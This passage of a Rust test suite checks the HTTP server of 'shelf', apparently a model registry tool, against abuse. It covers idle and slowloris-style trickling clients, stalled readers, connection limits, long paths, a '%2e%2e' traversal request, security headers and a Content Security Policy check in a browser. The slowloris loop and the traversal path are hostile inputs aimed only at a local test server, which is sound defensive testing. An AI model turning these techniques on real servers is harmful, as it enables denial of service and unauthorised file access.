    symlink("/", root_link.join("root")).unwrap();
    let out = push(&root_link, &[]);
    assert_code(&out, 2);
    assert!(stderr(&out).contains("root -> /"), "{}", stderr(&out));
}

// ---------------------------------------------------------------------------------------
// D10, D16: `shelf serve`

/// A server with short limits, in this process, on a registry with a 24 MB blob.
struct TestServer {
    addr: std::net::SocketAddr,
    blob: String,
    _stop: tokio::sync::oneshot::Sender<()>,
    _runtime: tokio::runtime::Runtime,
    _backend: Backend,
}

const BLOB_SIZE: usize = 24 * 1024 * 1024;

fn test_server(limits: shelf::serve::Limits) -> TestServer {
    let backend = local_registry();
    let store = backend.store();
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap();
    let big = crate::support::bytes(7, BLOB_SIZE);
    let digest = runtime.block_on(put_blob(&store, &big));
    let registry = backend.registry();
    let server = runtime
        .block_on(shelf::serve::Server::bind(
            registry,
            "127.0.0.1:0".parse().unwrap(),
        ))
        .unwrap()
        .with_limits(limits);
    let addr = server.local_addr().unwrap();
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    runtime.spawn(server.run(async {
        let _ = stopped.await;
    }));
    TestServer {
        addr,
        blob: keys::blob_key(&digest),
        _stop: stop,
        _runtime: runtime,
        _backend: backend,
    }
}

fn limits() -> shelf::serve::Limits {
    shelf::serve::Limits {
        request_head: Duration::from_secs(1),
        stalled_write: Duration::from_secs(1),
        max_connections: 4,
        ..Default::default()
    }
}

/// Wait (up to 10 s) until the server closes `stream`; how long it took.
fn closed_within(stream: &mut TcpStream) -> Duration {
    let start = Instant::now();
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let mut buf = [0u8; 65536];
    loop {
        match stream.read(&mut buf) {
            Ok(0) => return start.elapsed(),
            Ok(_) => continue,
            Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => return start.elapsed(),
            Err(e) => panic!("the server did not close the connection: {e}"),
        }
    }
}

/// One request on a new connection: the raw response head (lower-cased) and the status.
fn request(addr: std::net::SocketAddr, method: &str, path: &str) -> (u16, String) {
    let mut stream = TcpStream::connect(addr).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    write!(
        stream,
        "{method} {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    )
    .unwrap();
    let mut raw = Vec::new();
    let _ = stream.read_to_end(&mut raw);
    let text = String::from_utf8_lossy(&raw).to_ascii_lowercase();
    let head = text
        .split("\r\n\r\n")
        .next()
        .unwrap_or_default()
        .to_string();
    let status = head
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    (status, head)
}

#[test]
fn d10_serve_closes_idle_and_trickling_connections() {
    let server = test_server(limits());
    // An idle socket, never sending a byte.
    let mut idle = TcpStream::connect(server.addr).unwrap();
    let took = closed_within(&mut idle);
    assert!(took < Duration::from_secs(5), "closed after {took:?}");

    // Slowloris: a header byte every 200 ms, never finished.
    let mut slow = TcpStream::connect(server.addr).unwrap();
    let start = Instant::now();
    let head =
        b"GET /shelf.json HTTP/1.1\r\nHost: x\r\nX-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
    let mut refused = false;
    for byte in head {
        if slow.write_all(&[*byte]).is_err() {
            refused = true;
            break;
        }
        std::thread::sleep(Duration::from_millis(200));
        if start.elapsed() > Duration::from_secs(4) {
            break;
        }
    }
    if !refused {
        let took = closed_within(&mut slow);
        assert!(start.elapsed() < Duration::from_secs(15), "took {took:?}");
    }
    assert!(
        start.elapsed() < Duration::from_secs(15),
        "a trickling client is dropped: {:?}",
        start.elapsed()
    );

    // Kept alive after a response, then idle: closed too.
    let mut kept = TcpStream::connect(server.addr).unwrap();
    write!(kept, "GET /shelf.json HTTP/1.1\r\nHost: x\r\n\r\n").unwrap();
    kept.set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let mut first = [0u8; 12];
    kept.read_exact(&mut first).unwrap();
    assert_eq!(&first, b"HTTP/1.1 200");
    let took = closed_within(&mut kept);
    assert!(took < Duration::from_secs(5), "closed after {took:?}");

    // And the server still answers.
    assert_eq!(request(server.addr, "GET", "/shelf.json").0, 200);
}

#[test]
fn d10_serve_drops_a_client_that_stops_reading() {
    let server = test_server(limits());
    let mut stream = TcpStream::connect(server.addr).unwrap();
    write!(
        stream,
        "GET /{} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
        server.blob
    )
    .unwrap();
    // Read nothing while the socket buffers fill and the write stalls.
    std::thread::sleep(Duration::from_secs(3));
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let mut got = 0usize;
    let mut buf = vec![0u8; 1 << 16];
    loop {
        match stream.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => got += n,
            Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => break,
            Err(e) => panic!("the server did not drop the stalled client: {e}"),
        }
    }
    assert!(
        got < BLOB_SIZE,
        "the response was cut ({got} of {BLOB_SIZE} bytes)"
    );
    // A client that reads gets it all.
    let (status, _) = request(server.addr, "HEAD", &format!("/{}", server.blob));
    assert_eq!(status, 200);
}

#[test]
fn d10_serve_limits_its_connections_and_recovers() {
    let server = test_server(limits());
    let idle: Vec<TcpStream> = (0..4)
        .map(|_| TcpStream::connect(server.addr).unwrap())
        .collect();
    std::thread::sleep(Duration::from_millis(200));
    // One more is answered at once, before it says anything.
    let mut extra = TcpStream::connect(server.addr).unwrap();
    extra
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    let mut raw = Vec::new();
    let _ = extra.read_to_end(&mut raw);
    let head = String::from_utf8_lossy(&raw).to_ascii_lowercase();
    assert!(head.starts_with("http/1.1 503"), "{head}");
    assert!(head.contains("x-content-type-options: nosniff"), "{head}");
    // The idle ones are closed after the request-head timeout; then there is room again.
    std::thread::sleep(Duration::from_millis(1500));
    assert_eq!(request(server.addr, "GET", "/shelf.json").0, 200);
    drop(idle);
}

#[test]
fn d10_d16_every_answer_of_serve_carries_the_security_headers_and_a_long_path_is_414() {
    let backend = local_registry();
    let served = crate::support::Served::start(backend.shelf());
    let addr: std::net::SocketAddr = served
        .url
        .trim_start_matches("http://")
        .trim_end_matches('/')
        .parse()
        .unwrap();
    let long = format!("/{}", "a".repeat(8 * 1024));
    let longer = format!("/models/{}", "b/".repeat(16 * 1024));
    for (method, path, status) in [
        ("GET", "/shelf.json", 200),
        ("HEAD", "/shelf.json", 200),
        (
            "GET",
            "/",
            if shelf::site::files().is_empty() {
                404
            } else {
                200
            },
        ),
        ("GET", "/models/nope/_index.json", 404),
        ("GET", "/a/%2e%2e/shelf.json", 400),
        ("POST", "/shelf.json", 405),
        ("GET", long.as_str(), 414),
        ("GET", longer.as_str(), 414),
    ] {
        let (got, head) = request(addr, method, path);
        assert_eq!(
            got,
            status,
            "{method} {}…: {head}",
            &path[..path.len().min(40)]
        );
        for (name, value) in shelf::serve::SECURITY_HEADERS {
            assert!(
                head.contains(&format!("{name}: {}", value.to_ascii_lowercase())),
                "{method} {status}: no {name}: {head}"
            );
        }
    }
    assert!(shelf::serve::CONTENT_SECURITY_POLICY.contains("script-src 'self' 'wasm-unsafe-eval'"));
}

/// The page renders under the policy, and no part of it breaks a directive (a violation
/// reported by the browser fails the test).
#[test]
fn d10_the_web_app_renders_under_the_content_security_policy() {
    crate::support::browser::preflight();
    let backend = local_registry();
    let dir = tempfile::tempdir().unwrap();
    let file = write_file(&dir.path().join("w.bin"), b"w");
    for args in [vec!["push", "fraud"], vec!["push", "fraud"]] {
        assert_code(
            &run(backend.shelf().args(&args).arg(&file).args([
                "--no-env",
                "--no-code",
                "--metric",
                "auc=0.9",
            ])),
            0,
        );
    }
    for args in [
        vec![
            "deploy",
            "fraud@1",
            "--target",
            "eu",
            "--traffic",
            "40",
            "--reason",
            "canary",
        ],
        vec!["eval", "fraud@1", "--metric", "auc=0.8"],
        vec!["eval", "fraud@1", "--metric", "auc=0.85"],
    ] {
        assert_code(&run(backend.shelf().args(&args)), 0);
    }
    let served = crate::support::Served::start(backend.shelf());
    let url = served.url.clone();
    crate::support::browser::with_browser("csp", |b| async move {
        b.goto(&url).await;
        b.wait_for("#catalog tr.model-row").await;
        b.eval(
            "window.__csp = []; document.addEventListener('securitypolicyviolation', \
             e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));",
        )
        .await;
        for (hash, drawn) in [
            (
                "#/m/fraud",
                "#deployments tr.target-row .traffic-bar .segment",
            ),
            ("#/m/fraud/v/1", "svg.eval-chart circle.point"),
            (
                "#/compare/fraud/1,2",
                "#compare-metrics tr[data-key=\"auc\"]",
            ),
        ] {
            b.goto(&format!("{url}{hash}")).await;
            b.wait_for(drawn).await;
        }
        assert_eq!(
            b.eval("return window.__csp").await,
            json!([]),
            "no CSP violations (and the page was not reloaded)"
        );
    });

    // A page published by an older shelf loads the app with an inline script (trunk's own
    // index.html): serve allows exactly that script, by its hash, and it renders too.
    let trunk_page = Path::new(env!("CARGO_MANIFEST_DIR")).join("../app/dist/index.html");
    let page = std::fs::read_to_string(&trunk_page).unwrap();
    assert!(
        page.contains("<script type=\"module\">"),
        "trunk's page has its inline script"
    );
    let Backend::Local(root) = &backend else {
        unreachable!()
    };
    std::fs::write(root.path().join("registry/index.html"), &page).unwrap();
    let (_, head) = request(
        served
            .url
            .trim_start_matches("http://")
            .trim_end_matches('/')
            .parse()
            .unwrap(),
        "GET",
        "/",
    );
    assert!(head.contains("'sha256-"), "{head}");
    let url = served.url.clone();
    crate::support::browser::with_browser("csp-inline", |b| async move {
        b.goto(&url).await;
        b.wait_for("#catalog tr.model-row").await;
    });
}
